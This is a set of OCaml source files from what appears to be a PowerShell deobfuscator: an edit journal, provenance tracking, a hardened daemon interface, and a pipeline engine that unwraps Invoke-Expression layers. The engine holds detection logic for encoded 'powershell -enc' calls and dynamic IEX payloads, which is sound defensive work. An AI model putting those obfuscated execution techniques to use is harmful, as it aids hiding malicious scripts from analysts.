            Buffer.add_char buf s.[i];
            go (i + 1)
          end
      in
      go 0;
      Some (Value.Str (Buffer.contents buf))
  | ("uri" | "system.uri"), "escapedatastring", [ v ] ->
      let s = Value.to_string v in
      let buf = Buffer.create (String.length s * 2) in
      String.iter
        (fun c ->
          match c with
          | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '-' | '_' | '.' | '~' ->
              Buffer.add_char buf c
          | c -> Buffer.add_string buf (Printf.sprintf "%%%02X" (Char.code c)))
        s;
      Some (Value.Str (Buffer.contents buf))
  | ("net.webutility" | "webutility"), "htmldecode", [ v ] ->
      let s = Value.to_string v in
      let s = Strcase.replace_all ~needle:"&amp;" ~replacement:"&" s in
      let s = Strcase.replace_all ~needle:"&lt;" ~replacement:"<" s in
      let s = Strcase.replace_all ~needle:"&gt;" ~replacement:">" s in
      let s = Strcase.replace_all ~needle:"&quot;" ~replacement:"\"" s in
      let s = Strcase.replace_all ~needle:"&#39;" ~replacement:"'" s in
      Some (Value.Str s)
  (* --- environment --- *)
  | "environment", "getenvironmentvariable", [ _name ] -> Some Value.Null
  | "environment", "getfolderpath", [ _which ] ->
      Some (Value.Str "C:\\Users\\user\\AppData\\Roaming")
  | _ -> None
