(** Structured edit journal for the semantic-equivalence gate.

    Every in-place extent edit the pipeline lands — token-phase rewrites,
    piece recoveries, variable substitutions, layer unwraps, paren
    simplifications — is recorded as a [(site, kind, before, after)]
    record, grouped into {e stages}: one stage per successful application
    of a phase to a concrete input text.  Because the pipeline threads each
    stage's output into the next stage's input, replaying a {e prefix} of
    the flattened edit sequence is exact: whole stages reproduce the
    recorded intermediate texts byte for byte, and a partial stage is a
    plain {!Pscommon.Patch.apply} of the first [k] normalized edits.  That
    exactness is what lets {!Verify} bisect the journal to the first
    behaviour-changing edit. *)

open Pscommon

type edit = {
  phase : string;  (** producing phase: ["token"], ["recover"], ["simplify"] *)
  kind : string;  (** finer site label: ["piece"], ["substitute"], ["unwrap"], … *)
  pass : int;  (** fixpoint pass index; [-1] for the entry token phase *)
  start : int;
  stop : int;  (** byte extent in the stage's input text *)
  before : string;
  after : string;
}

type stage = {
  s_phase : string;
  s_pass : int;
  s_edits : edit list;  (** in application order (sorted, nesting resolved) *)
}

type t = { mutable stages_rev : stage list; mutable total : int }

let create () = { stages_rev = []; total = 0 }

let record_stage t ~phase ~pass ~src pairs =
  (* record exactly what Patch.apply performs: sorted, nested edits dropped.
     normalize returns the input records themselves, so kinds correlate by
     physical identity. *)
  let applied = Patch.normalize (List.map fst pairs) in
  let kind_of e =
    match List.find_opt (fun (e', _) -> e' == e) pairs with
    | Some (_, k) -> k
    | None -> "edit"
  in
  let edits =
    List.map
      (fun (e : Patch.edit) ->
        let start = e.Patch.extent.Extent.start
        and stop = e.Patch.extent.Extent.stop in
        {
          phase;
          kind = kind_of e;
          pass;
          start;
          stop;
          before = String.sub src start (stop - start);
          after = e.Patch.replacement;
        })
      applied
  in
  if edits <> [] then begin
    t.stages_rev <- { s_phase = phase; s_pass = pass; s_edits = edits } :: t.stages_rev;
    t.total <- t.total + List.length edits
  end

let stages t = List.rev t.stages_rev
let total t = t.total

let flatten stages = Array.of_list (List.concat_map (fun s -> s.s_edits) stages)

let to_patch e =
  Patch.edit { Extent.start = e.start; stop = e.stop } e.after

(* Apply the first [n] edits of the flattened sequence to [src].  Whole
   stages chain exactly (each stage's input is the previous stage's
   output); a trailing partial stage applies a prefix of its normalized,
   non-overlapping edits.  Stages after the cut are dropped entirely. *)
let replay_prefix ~src stages n =
  let rec go text remaining = function
    | [] -> text
    | st :: rest ->
        let k = List.length st.s_edits in
        if remaining <= 0 then text
        else if remaining >= k then
          go (Patch.apply text (List.map to_patch st.s_edits)) (remaining - k) rest
        else
          Patch.apply text
            (List.map to_patch (List.filteri (fun i _ -> i < remaining) st.s_edits))
  in
  go src n stages

(* ---------- suppression (rollback) ---------- *)

(* Rollback is content-based, not position-based: a re-run of the pipeline
   recomputes every downstream offset, so the suppressed edit is matched by
   what it did, not where.  All textually identical edits are suppressed
   together — conservative (a divergent rewrite is unsafe wherever it
   lands) and deterministic. *)
type suppression = { sup_phase : string; sup_before : string; sup_after : string }

let suppress_edit e = { sup_phase = e.phase; sup_before = e.before; sup_after = e.after }

(* pseudo-suppression for the finalization phase (rename + reformat): those
   rewrites are not extent edits, so divergence attributed to them rolls
   back the whole phase *)
let suppress_finalize = { sup_phase = "finalize"; sup_before = ""; sup_after = "" }

let finalize_suppressed sups =
  List.exists (fun s -> String.equal s.sup_phase "finalize") sups

let suppressed sups ~phase ~before ~after =
  List.exists
    (fun s ->
      String.equal s.sup_phase phase
      && String.equal s.sup_before before
      && String.equal s.sup_after after)
    sups

let describe s =
  if String.equal s.sup_phase "finalize" then "finalize"
  else
    let clip t =
      if String.length t <= 40 then t else String.sub t 0 37 ^ "..."
    in
    Printf.sprintf "%s: %S -> %S" s.sup_phase (clip s.sup_before) (clip s.sup_after)
