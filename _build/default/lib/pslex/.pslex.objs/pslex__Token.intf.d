lib/pslex/token.mli: Format Pscommon
