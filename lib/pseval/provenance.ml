(** Value provenance for dynamic recovery (PowerPeeler-style).

    When the deobfuscator executes a region the static tracer cannot fold
    (loop-carried bindings, conditional payload assembly), it installs a
    recorder here.  Each variable write is stamped with a provenance
    record — the defining source extent, the evaluation step index, and
    the set of records the written value was derived from — so a final
    binding can be mapped back to the exact source region that produced
    it, instead of guessed from a symbol table.

    The recorder is fail-safe by construction: {!note} never lets an
    exception escape into the interpreter.  Any fault — including one
    injected at the [interp.provenance] chaos site — {e poisons} the
    recorder instead; the dynamic recovery stage treats a poisoned
    recorder as "this region is unverifiable" and degrades to the static
    result.  A recorder also never grows without bound: past [cap]
    records it poisons itself rather than drop provenance silently. *)

open Pscommon

type record = {
  id : int;
  var : string;  (** binding name, lowercased (the scope-table key) *)
  spelled : string;  (** the name as written at the defining site *)
  extent : Extent.t;  (** source extent of the defining assignment *)
  step : int;  (** evaluator step index at the write *)
  deps : int list;  (** ids of the last writes of each value read *)
}

type t = {
  mutable records : record list;  (** reverse order *)
  latest : (string, record) Hashtbl.t;  (** var -> most recent write *)
  by_id : (int, record) Hashtbl.t;
  mutable next_id : int;
  cap : int;
  mutable poisoned : string option;
}

let create ?(cap = 65536) () =
  {
    records = [];
    latest = Hashtbl.create 64;
    by_id = Hashtbl.create 64;
    next_id = 0;
    cap;
    poisoned = None;
  }

let poisoned t = t.poisoned
let count t = t.next_id

let note t ~var ~extent ~step ~reads =
  if t.poisoned = None then
    try
      Chaos.probe "interp.provenance";
      if t.next_id >= t.cap then t.poisoned <- Some "provenance cap exceeded"
      else begin
        let key = Strcase.lower var in
        let deps =
          List.filter_map
            (fun name ->
              match Hashtbl.find_opt t.latest (Strcase.lower name) with
              | Some r -> Some r.id
              | None -> None)
            reads
          |> List.sort_uniq compare
        in
        let r = { id = t.next_id; var = key; spelled = var; extent; step; deps } in
        t.next_id <- t.next_id + 1;
        t.records <- r :: t.records;
        Hashtbl.replace t.latest key r;
        Hashtbl.replace t.by_id r.id r
      end
    with e ->
      (* fail-safe: a recorder fault must never crash the evaluation it is
         observing — it invalidates the provenance instead *)
      t.poisoned <- Some (Printexc.to_string e)

let records t = List.rev t.records

let last_write t name = Hashtbl.find_opt t.latest (Strcase.lower name)

(* Transitive dependency closure of a binding's final value: every source
   extent that contributed to it, in first-write order. *)
let defining_extents t name =
  match last_write t name with
  | None -> []
  | Some root ->
      let seen = Hashtbl.create 16 in
      let rec visit acc id =
        if Hashtbl.mem seen id then acc
        else begin
          Hashtbl.replace seen id ();
          match Hashtbl.find_opt t.by_id id with
          | None -> acc
          | Some r -> List.fold_left visit (r :: acc) r.deps
        end
      in
      visit [] root.id
      |> List.sort (fun a b -> compare a.id b.id)
      |> List.map (fun r -> r.extent)

(* ---------- dependency extraction ---------- *)

(* Variable names an expression reads, for dependency stamping.  A local
   walk (pseval cannot see the deobfuscator's tracer): [$name] reads and
   expandable-string interpolations. *)
let read_vars ast =
  let module A = Psast.Ast in
  let acc = ref [] in
  let add name = acc := Strcase.lower name :: !acc in
  A.iter_post_order
    (fun n ->
      match n.A.node with
      | A.Variable_expr v -> add v.A.var_name
      | A.Expandable_string (_, parts) ->
          List.iter
            (function
              | A.Part_variable (v, _) -> add v.A.var_name
              | A.Part_text _ | A.Part_subexpr _ -> ())
            parts
      | _ -> ())
    ast;
  List.sort_uniq String.compare !acc
