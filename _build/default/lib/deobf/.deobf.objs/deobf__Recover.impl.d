lib/deobf/recover.ml: Array Blocklist Encoding Extent List Patch Printf Psast Pscommon Pseval Psparse Psvalue Strcase String Tracer
