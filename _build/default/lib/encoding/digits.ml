type radix = Binary | Octal | Decimal | Hex

let base = function Binary -> 2 | Octal -> 8 | Decimal -> 10 | Hex -> 16

let digit_char v = if v < 10 then Char.chr (Char.code '0' + v) else Char.chr (Char.code 'a' + v - 10)

let to_string radix n =
  if n < 0 then invalid_arg "Digits.to_string: negative";
  let b = base radix in
  if n = 0 then "0"
  else begin
    let buf = Buffer.create 8 in
    let rec loop n = if n > 0 then begin loop (n / b); Buffer.add_char buf (digit_char (n mod b)) end in
    loop n;
    Buffer.contents buf
  end

let digit_value c =
  match c with
  | '0' .. '9' -> Some (Char.code c - Char.code '0')
  | 'a' .. 'f' -> Some (Char.code c - Char.code 'a' + 10)
  | 'A' .. 'F' -> Some (Char.code c - Char.code 'A' + 10)
  | _ -> None

let of_string radix s =
  let b = base radix in
  if s = "" then None
  else
    String.fold_left
      (fun acc c ->
        match (acc, digit_value c) with
        | Some n, Some v when v < b -> Some ((n * b) + v)
        | _ -> None)
      (Some 0) s

let encode_codes radix s =
  List.init (String.length s) (fun i -> to_string radix (Char.code s.[i]))

let decode_codes radix codes =
  let buf = Buffer.create (List.length codes) in
  let rec loop = function
    | [] -> Ok (Buffer.contents buf)
    | c :: rest -> (
        match of_string radix c with
        | None -> Error (Printf.sprintf "digits: invalid code %S" c)
        | Some v ->
            Buffer.add_char buf (Char.chr (v land 0xFF));
            loop rest)
  in
  loop codes
