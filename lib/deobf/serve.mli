(** Deobfuscation as a service: a hardened long-running daemon over a Unix
    or TCP socket speaking NDJSON — one JSON request object per line,
    exactly one JSON response line per request line.  Responses are
    matched by [id], {e not} by order: control ops are answered inline
    while deobfuscation requests queue, and with [jobs > 1] requests
    complete as workers finish them.

    {2 Protocol}

    Request fields (flat JSON object, one per line):
    {ul
    {- [op] — ["deobfuscate"] (the default when absent), ["health"],
       ["metrics"], or ["shutdown"];}
    {- [id] — echoed back verbatim (string or integer); defaults to a
       server-assigned sequence number;}
    {- [script] — the source text (JSON-escaped), or [path] — a file to
       read server-side;}
    {- [timeout_s] — per-request budget, capped at the server's
       [max_timeout_s];}
    {- [verify] — override the server's semantic-gate default;}
    {- [trace] — [true] inlines the request's span events as a [trace]
       array in the response (bounded ring, observation-only).}}

    Responses: [{"id":…, "status":"ok"|"degraded", "trace_id":…,
    "output":…, "report":{…}}] with the same per-file report object as
    batch mode
    (flattened to one line); [{"id":…, "status":"overloaded",
    "retry_after_ms":…}] when admission control sheds the request;
    [{"id":…, "status":"error", "kind":…, "detail":…}] for anything else —
    unreadable paths, malformed requests, contained faults.  Every request
    line is answered by exactly one of these.

    {2 Hardening}

    Worker domains ({!Pscommon.Pool.Service}) run each request through
    {!Batch.run_source} — the batch retry ladder and {!Verify} gate — under
    a {!Pscommon.Guard} ambient deadline that starts at {e admission}, so
    queue time counts against the request's budget and drain time is
    bounded.  Any failure is a structured error response; workers recycle,
    the daemon survives.  All workers share one warm bounded piece cache
    ({!Recover.Cache}) for the life of the process — a piece recovered for
    one request is a hit for every later one, whichever worker runs it —
    and with [piece_cache_dir] it persists across daemon restarts.  The
    ["metrics"] op reports the cache's occupancy and hit rate alongside
    the self-healing state ([selfheal]: recycle/wedge/respawn counters,
    quarantined rules, memory watermark) and the registry snapshot.

    {2 Self-healing}

    A supervisor domain watches per-worker heartbeats: a worker still busy
    past its request's deadline plus [grace_s] is declared {e wedged} —
    its client gets a structured [kind:"wedged"] error, the domain is
    abandoned and a fresh one installed, with exponential backoff on
    respawn failures.  A {!Pscommon.Memwatch} governor sheds admissions
    ([reason:"memory"]), shrinks caches, and recycles workers as the heap
    crosses the configured watermarks.  {!Quarantine} circuit-breaks
    transforms the semantic gate keeps rolling back.

    Chaos probe sites [serve.accept], [serve.read], [serve.write] and
    [serve.queue] inject socket-edge faults: accept/read faults delay (the
    kernel backlog and unconsumed bytes retry next select round), write
    faults are counted and retried, queue faults cost that one request an
    error response.  [serve.wedge] spins a worker in a bounded
    checkpoint-free loop (exercising the watchdog); [serve.respawn] fails
    the replacement spawn (exercising the backoff). *)

type bind = Unix_sock of string | Tcp of string * int

val parse_bind : string -> (bind, string) result
(** ["unix:PATH"], ["tcp:HOST:PORT"], or a bare path (treated as a Unix
    socket). *)

val bind_to_string : bind -> string

type config = {
  bind : bind;
  jobs : int;  (** worker domains *)
  queue_cap : int;  (** admission-control bound; beyond it requests shed *)
  default_timeout_s : float;  (** per-request budget when unspecified *)
  max_timeout_s : float;  (** cap on client-requested budgets *)
  max_request_bytes : int;
      (** a connection whose unterminated line exceeds this is answered
          with a ["too-large"] error and closed — a flood of bytes cannot
          grow memory *)
  max_output_bytes : int;
  options : Engine.options;
  verify : bool;  (** default semantic-gate setting; per-request overridable *)
  verify_opts : Verify.opts option;
  cache_cap : int;  (** process-shared piece-cache capacity *)
  piece_cache_dir : string option;
      (** persistent piece-cache tier shared with batch runs; entries are
          guarded by {!Batch.piece_cache_fingerprint} *)
  trace_dir : string option;
      (** write per-request traces here ([req-<seq>.trace.jsonl]) *)
  trace_sample : int option;
      (** with [trace_dir]: serialize only every n-th request's trace;
          the rest record into a reusable per-domain scratch ring *)
  metrics_out : string option;
      (** write a final metrics snapshot here on drain *)
  metrics_addr : bind option;
      (** serve a Prometheus scrape endpoint ([GET /metrics]) on this
          address, on its own listener domain — scrapes never contend
          with request admission.  Renders the registry snapshot plus
          the rolling-window aggregates ({!Pscommon.Telemetry.Window}) *)
  flight_dir : string option;
      (** enable the {!Pscommon.Telemetry.Flight} recorder and dump its
          per-domain ring here on worker recycle, blown deadline, or
          chaos queue fault *)
  grace_s : float;
      (** watchdog patience: a worker still busy past its request's
          deadline plus this grace is declared wedged — the request is
          answered with a structured [kind:"wedged"] error and the worker
          domain abandoned and replaced ({!Pscommon.Pool.Service}
          supervision) *)
  mem_soft_mb : int option;
      (** soft memory watermark ({!Pscommon.Memwatch}): past it new
          requests are shed with [status:"overloaded", reason:"memory"]
          and the piece cache drops its cold generations; [None] disables *)
  mem_hard_mb : int option;
      (** hard memory watermark: additionally, workers recycle between
          requests, releasing domain-local state; [None] disables *)
  max_major_bytes : int option;
      (** per-request major-allocation budget installed via
          {!Pscommon.Guard.protect}; an exhausted budget degrades the
          request to a structured out-of-memory failure.  Runtime-wide
          accounting — size it as a generous backstop, not an SLA *)
  quarantine : bool;
      (** adaptive rule quarantine ({!Quarantine}): transforms repeatedly
          rolled back by the semantic gate are skipped up front until a
          half-open probe re-admits them.  On by default in the daemon;
          [--no-quarantine] restores the always-run behaviour *)
}

val default_config : bind -> config
(** 1 job, queue 64, 30 s default / 300 s max budget, 8 MiB request cap,
    32 MiB output cap, verify off, cache 2048 (memory-only), no tracing,
    no scrape endpoint, flight recorder off, 2 s wedge grace, memory
    governor off, no allocation budget, quarantine on. *)

type server
(** A daemon started in a background domain by {!start}. *)

val start : config -> (server, string) result
(** Bind the socket (errors reported synchronously — address in use,
    bad path) and start serving in a spawned domain. *)

val stop : server -> unit
(** Initiate graceful drain: stop accepting and reading, finish or
    deadline-out queued work, flush telemetry.  Returns immediately;
    {!wait} observes completion. *)

val wait : server -> int
(** Join the serve loop and return its exit code (0 after a graceful
    drain). *)

val run : config -> int
(** Serve in the calling domain until SIGTERM/SIGINT (handlers installed
    here) or a ["shutdown"] request initiates drain.  Returns the process
    exit code: 0 after a graceful drain, 1 when the socket cannot be bound
    or the loop crashed. *)
