lib/psast/printer.ml: Ast Buffer List Printf String
