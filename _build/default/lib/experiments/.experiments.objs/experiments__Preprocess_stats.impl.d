lib/experiments/preprocess_stats.ml: Corpus List Obfuscator Patch Printf Pscommon Pslex Rng String
