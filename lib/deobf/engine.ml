(** Invoke-Deobfuscation — the full pipeline (paper Fig 2).

    Phases: token parsing → variable tracing & recovery based on AST
    (repeated to a fixpoint, unwrapping Invoke-Expression layers) → renaming
    and reformatting.  Each phase's output is syntax-checked and the phase
    is skipped when it breaks the script. *)

type options = {
  token_phase : bool;
  recovery : recovery_options;
  rename : bool;
  reformat : bool;
  max_iterations : int;  (** fixpoint bound for the recovery loop *)
  partial : bool;
      (** when the whole file fails to parse, segment it into maximal
          parseable regions and deobfuscate each independently *)
}

and recovery_options = Recover.options = {
  use_tracing : bool;
  use_blocklist : bool;
  use_multilayer : bool;
  use_piece_cache : bool;
  max_depth : int;
  piece_step_budget : int;
  piece_timeout_s : float;
  use_dynamic : bool;
  dynamic_step_budget : int;
}

let default_options =
  { token_phase = true; recovery = Recover.default_options; rename = true;
    reformat = true; max_iterations = 8; partial = true }

type result = {
  output : string;
  stats : Recover.stats;
  iterations : int;
  changed : bool;  (** false when the tool returned the input unchanged *)
}

(* an IEX invocation whose payload is not a plain literal: the code it will
   run at run time is invisible to renaming *)
let residual_dynamic_iex src =
  match Psparse.Parser.parse src with
  | Error _ -> true
  | Ok ast ->
      let module A = Psast.Ast in
      let is_iex_name s =
        Pscommon.Strcase.equal s "iex"
        || Pscommon.Strcase.equal s "invoke-expression"
      in
      let found = ref false in
      A.iter_post_order
        (fun n ->
          match n.A.node with
          | A.Command cmd -> (
              let name_is_iex =
                match cmd.A.cmd_elements with
                | A.Elem_name { A.node = A.String_const (s, _); _ } :: _ ->
                    is_iex_name s
                | A.Elem_name
                    { A.node =
                        A.Paren_expr
                          { A.node =
                              A.Pipeline
                                [ { A.node =
                                      A.Command_expression
                                        { A.node = A.String_const (s, _); _ };
                                    _ } ];
                            _ };
                      _ }
                  :: _ ->
                    is_iex_name s
                | _ -> false
              in
              if name_is_iex then
                let risky_arg =
                  List.exists
                    (function
                      | A.Elem_argument { A.node = A.String_const _; _ } ->
                          false
                      | A.Elem_argument a ->
                          (* dynamic payloads built from local variables can
                             name variables at run time; payloads with no
                             local reads (e.g. downloads) cannot *)
                          List.exists
                            (fun v -> not (Tracer.is_automatic v))
                            (Tracer.variables_read a)
                      | _ -> false)
                    cmd.A.cmd_elements
                in
                if risky_arg then found := true)
          | _ -> ())
        ast;
      !found

(* Phase 2 driver: recovery based on AST, iterated to a fixpoint.  Returns
   the recovered text and the number of passes actually run (not the bound).
   The loop also stops when the ambient wall-clock deadline expires, keeping
   whatever partial recovery the completed passes produced.

   Each pass tokenizes and parses the working text at most once: the input
   AST comes from the previous stage's validating parse (stages return the
   parse of their own patched output), Token_phase tokenizes the one time
   its phase needs tokens, and Simplify plus the syntax re-check are skipped
   outright when no stage produced an edit. *)
let rec deobfuscate_at ~opts ~stats ~cache ~depth ?log ?(suppress = []) src =
  (* Phase 1: token parsing *)
  let src1 =
    if opts.token_phase then Token_phase.run ?log ~pass:(-1) ~suppress src
    else src
  in
  fixpoint_from ~opts ~stats ~cache ~depth ?log ~suppress src1

and fixpoint_from ~opts ~stats ~cache ~depth ?log ?(suppress = []) src1 =
  let deobfuscate ~depth payload =
    (* recursive entry used by multi-layer unwrapping; shares the piece
       cache — unwrapped layers repeat the outer layers' decode pieces.
       Suppressions apply at any depth (a rolled-back rewrite is unsafe
       wherever its text recurs), but only depth-0 stages are journaled:
       a nested layer's edits land inside the outer unwrap edit's [after]
       text, which is the unit the gate bisects. *)
    fst (deobfuscate_at ~opts ~stats ~cache ~depth ~suppress payload)
  in
  (* [ast] is always the parse of [current]; [simplify_pending] records
     whether the previous pass's Simplify landed edits (its output has not
     itself been simplified yet), forcing one more Simplify run even when
     Recover and Token_phase are quiescent *)
  let rec fixpoint i current ast simplify_pending =
    if i >= opts.max_iterations then (current, i)
    else if Pscommon.Guard.expired (Pscommon.Guard.ambient_deadline ()) then
      (current, i)
    else begin
      (* per-pass span: the per-pass timing breakdown the summed phase
         totals no longer carry lives here, in the trace *)
      let sid =
        if Pscommon.Telemetry.active () then
          Pscommon.Telemetry.span_begin "engine.pass"
            ~attrs:
              [ ("pass", Pscommon.Telemetry.I i);
                ("depth", Pscommon.Telemetry.I depth);
                ("bytes", Pscommon.Telemetry.I (String.length current)) ]
        else 0
      in
      let finish_pass ~changed result =
        if sid <> 0 then
          Pscommon.Telemetry.span_end sid
            ~attrs:[ ("changed", Pscommon.Telemetry.B changed) ];
        result
      in
      let cur1, ast1, recover_changed =
        match
          Recover.run_pass ~opts:opts.recovery ~stats ~cache ~deobfuscate
            ~depth ?log ~pass:i ~suppress ~ast current
        with
        | Some (patched, patched_ast) -> (patched, patched_ast, true)
        | None -> (current, ast, false)
      in
      let cur2, ast2, token_changed =
        match
          if opts.token_phase then
            Token_phase.run_shared ?log ~pass:i ~suppress cur1
          else None
        with
        | Some (patched, patched_ast) -> (patched, patched_ast, true)
        | None -> (cur1, ast1, false)
      in
      if not (recover_changed || token_changed || simplify_pending) then
        (* nothing moved and the text is already simplify-stable: the
           fixpoint is reached without running Simplify or re-checking *)
        finish_pass ~changed:false (current, i + 1)
      else
        let cur3, ast3, simplify_changed =
          match Simplify.run_shared ?log ~pass:i ~suppress ~ast:ast2 cur2 with
          | Some (patched, patched_ast) -> (patched, patched_ast, true)
          | None -> (cur2, ast2, false)
        in
        if String.equal cur3 current then finish_pass ~changed:false (current, i + 1)
        else begin
          ignore (finish_pass ~changed:true ());
          fixpoint (i + 1) cur3 ast3 simplify_changed
        end
    end
  in
  match Psparse.Parser.parse src1 with
  | Error _ ->
      (* unparseable payloads (recursive entry) make one vacuous pass, as
         the stage-by-stage loop always did *)
      if
        opts.max_iterations <= 0
        || Pscommon.Guard.expired (Pscommon.Guard.ambient_deadline ())
      then (src1, 0)
      else (src1, 1)
  | Ok ast -> fixpoint 0 src1 ast true

(* Renaming is skipped when an encoded payload survived recovery — its
   hidden code may define or reference variables by their original names at
   run time, and renaming the visible script would desynchronise the two. *)
let residual_encoded recovered =
  (* a) a powershell -e/-enc/-command invocation still present; decided on
     the token stream, so command text like Write-Error cannot shortcut it *)
  (match Pslex.Lexer.tokenize recovered with
  | Error _ -> true
  | Ok toks ->
      List.exists
        (fun t ->
          t.Pslex.Token.kind = Pslex.Token.Command_parameter
          && String.length t.Pslex.Token.content > 1
          && Char.lowercase_ascii t.Pslex.Token.content.[1] = 'e')
        toks)
  (* b) an Invoke-Expression whose argument is still dynamic *)
  || residual_dynamic_iex recovered

(* Phase 3: rename and reformat, falling back to the recovered text when
   the re-rendered form breaks. *)
let finalize ~options recovered =
  let renamed =
    if options.rename && not (residual_encoded recovered) then
      Rename.rename recovered
    else recovered
  in
  let formatted = if options.reformat then Rename.reformat renamed else renamed in
  if Psparse.Parser.is_valid_syntax formatted then formatted else recovered

type failure_site = { phase : string; failure : Pscommon.Guard.failure }

type guarded = {
  result : result;
  failures : failure_site list;  (** contained degradations, in phase order *)
  timings : (string * float) list;
      (** wall milliseconds per phase, {e summed} per phase name in
          first-execution order — keys are unique, so the list is a valid
          JSON object; the per-pass breakdown lives in telemetry spans *)
  regions_total : int;
      (** segments produced by partial-parse recovery; 0 when the input
          parsed whole (or [partial] is off) *)
  regions_recovered : int;
      (** parseable regions that ran the pipeline to completion *)
  edit_log : Editlog.stage list;
      (** journal of every extent edit the run applied, in stage order;
          empty for the partial-parse (region) path, whose edits are local
          to region texts and cannot be replayed against the whole file *)
}

(* Sum [ms] into the entry for [phase], preserving first-use order — a
   phase that runs more than once (or is ever re-entered) must not produce
   duplicate keys in downstream JSON. *)
let add_timing timings phase ms =
  let rec add acc = function
    | [] -> List.rev ((phase, ms) :: acc)
    | (p, total) :: rest when String.equal p phase ->
        List.rev_append acc ((p, total +. ms) :: rest)
    | entry :: rest -> add (entry :: acc) rest
  in
  add [] timings

(** Totalised pipeline: every phase runs under {!Pscommon.Guard.protect}
    with one wall-clock deadline for the whole run.  A phase that crashes,
    overruns, or over-produces degrades to the best text the earlier phases
    produced, and the failure is recorded — the run itself always returns. *)
let run_guarded ?(options = default_options) ?(timeout_s = 60.0)
    ?(max_output_bytes = 32 * 1024 * 1024) ?cache ?(suppress = []) src =
  let module Guard = Pscommon.Guard in
  let module T = Pscommon.Telemetry in
  let deadline = Guard.deadline_after timeout_s in
  let stats = Recover.new_stats () in
  (* a caller-owned cache (the serve daemon's per-worker cache) persists
     across runs; the default is private to this run *)
  let cache =
    match cache with Some c -> c | None -> Recover.Cache.create ()
  in
  let log = Editlog.create () in
  let run_sid =
    if T.active () then
      T.span_begin "engine.run" ~attrs:[ ("bytes", T.I (String.length src)) ]
    else 0
  in
  let failures = ref [] in
  let record phase failure =
    failures := { phase; failure } :: !failures;
    T.Metrics.incr
      (T.Metrics.counter
         (Printf.sprintf "engine.failures.%s.%s" phase
            (Guard.failure_label failure)));
    if T.active () then
      T.event "engine.failure"
        ~attrs:
          [ ("phase", T.S phase);
            ("kind", T.S (Guard.failure_label failure)) ]
  in
  let timings = ref [] in
  let timed phase f =
    let module T = Pscommon.Telemetry in
    let sid =
      if T.active () then
        T.span_begin "engine.phase" ~attrs:[ ("phase", T.S phase) ]
      else 0
    in
    let t0 = Guard.now () in
    let r = f () in
    let ms = (Guard.now () -. t0) *. 1000.0 in
    if sid <> 0 then T.span_end sid ~attrs:[ ("ms", T.F ms) ];
    T.Metrics.observe (T.Metrics.histogram ("engine.phase_ms." ^ phase)) ms;
    timings := add_timing !timings phase ms;
    r
  in
  let regions_total = ref 0 in
  let regions_recovered = ref 0 in
  let finish output iterations =
    let changed = not (String.equal output src) in
    if run_sid <> 0 then
      T.span_end run_sid
        ~attrs:
          [ ("iterations", T.I iterations);
            ("changed", T.B changed);
            ("bytes_out", T.I (String.length output)) ];
    { result = { output; stats; iterations; changed };
      failures = List.rev !failures;
      timings = !timings;
      regions_total = !regions_total;
      regions_recovered = !regions_recovered;
      edit_log = Editlog.stages log }
  in
  (* Partial-parse recovery: the whole file failed to parse, so segment it
     into maximal parseable regions at statement-boundary sync points and
     run each region through the normal fixpoint on its own, reassembling
     with the opaque / binary fragments passed through verbatim.  Renaming
     is disabled for regions — an opaque fragment may reference variables a
     parseable region defines by their original names, and renaming only
     the visible half would desynchronise them (the residual-encoded
     reasoning, applied across regions). *)
  let recover_regions () =
    let segments =
      match
        timed "segment" (fun () ->
            Guard.protect ~deadline (fun () -> Psparse.Segment.segment src))
      with
      | Ok segs -> segs
      | Error failure ->
          record "segment" failure;
          []
    in
    regions_total := List.length segments;
    T.Metrics.incr ~by:!regions_total (T.Metrics.counter "engine.regions.total");
    if
      not
        (List.exists (fun r -> r.Psparse.Segment.kind = Psparse.Segment.Parseable) segments)
    then
      (* nothing recoverable: pass through, but still report how many
         segments the scanner saw *)
      finish src 0
    else begin
      let ropts = { options with rename = false } in
      let buf = Buffer.create (String.length src) in
      let iters = ref 0 in
      let timed_out = ref false in
      List.iter
        (fun (r : Psparse.Segment.region) ->
          let text = String.sub src r.Psparse.Segment.start
              (r.Psparse.Segment.stop - r.Psparse.Segment.start)
          in
          match r.Psparse.Segment.kind with
          | Psparse.Segment.Opaque | Psparse.Segment.Binary ->
              Buffer.add_string buf text
          | Psparse.Segment.Parseable when Guard.expired deadline ->
              (* out of budget: pass the rest through, one Timeout recorded
                 below instead of one per remaining region *)
              timed_out := true;
              Buffer.add_string buf text
          | Psparse.Segment.Parseable -> (
              let sid =
                if T.active () then
                  T.span_begin "engine.region"
                    ~attrs:
                      [ ("start", T.I r.Psparse.Segment.start);
                        ("bytes", T.I (String.length text)) ]
                else 0
              in
              match
                timed "region" (fun () ->
                    Guard.protect ~deadline ~max_output_bytes
                      ~measure:(fun (s, _) -> String.length s)
                      (fun () ->
                        let recovered, it =
                          deobfuscate_at ~opts:ropts ~stats ~cache ~depth:0 text
                        in
                        (finalize ~options:ropts recovered, it)))
              with
              | Ok (out, it) ->
                  incr regions_recovered;
                  iters := !iters + it;
                  (* keep the statement boundary: a region that ended on a
                     newline must not fuse with the next fragment *)
                  let out =
                    if
                      String.length text > 0
                      && text.[String.length text - 1] = '\n'
                      && (String.length out = 0
                         || out.[String.length out - 1] <> '\n')
                    then out ^ "\n"
                    else out
                  in
                  if sid <> 0 then
                    T.span_end sid
                      ~attrs:[ ("changed", T.B (not (String.equal out text))) ];
                  Buffer.add_string buf out
              | Error failure ->
                  record "region" failure;
                  if sid <> 0 then
                    T.span_end sid
                      ~attrs:[ ("failed", T.S (Guard.failure_label failure)) ];
                  Buffer.add_string buf text))
        segments;
      if !timed_out && not (List.exists (fun s -> s.failure = Guard.Timeout) !failures)
      then record "region" Guard.Timeout;
      T.Metrics.incr ~by:!regions_recovered
        (T.Metrics.counter "engine.regions.recovered");
      finish (Buffer.contents buf) !iters
    end
  in
  match
    timed "parse" (fun () ->
        Guard.protect ~deadline (fun () -> Psparse.Parser.is_valid_syntax src))
  with
  | Ok false ->
      record "parse" Guard.Parse_failure;
      if options.partial then recover_regions () else finish src 0
  | Error failure ->
      record "parse" failure;
      if options.partial then recover_regions () else finish src 0
  | Ok true ->
      let recovered, iterations =
        match
          timed "recovery" (fun () ->
              Guard.protect ~deadline ~max_output_bytes
                ~measure:(fun (s, _) -> String.length s)
                (fun () ->
                  deobfuscate_at ~opts:options ~stats ~cache ~depth:0 ~log
                    ~suppress src))
        with
        | Ok r -> r
        | Error failure ->
            record "recovery" failure;
            (src, 0)
      in
      (* dynamic recovery: provenance-guided replacement of the loop/
         conditional regions the static fixpoint cannot fold.  Runs under
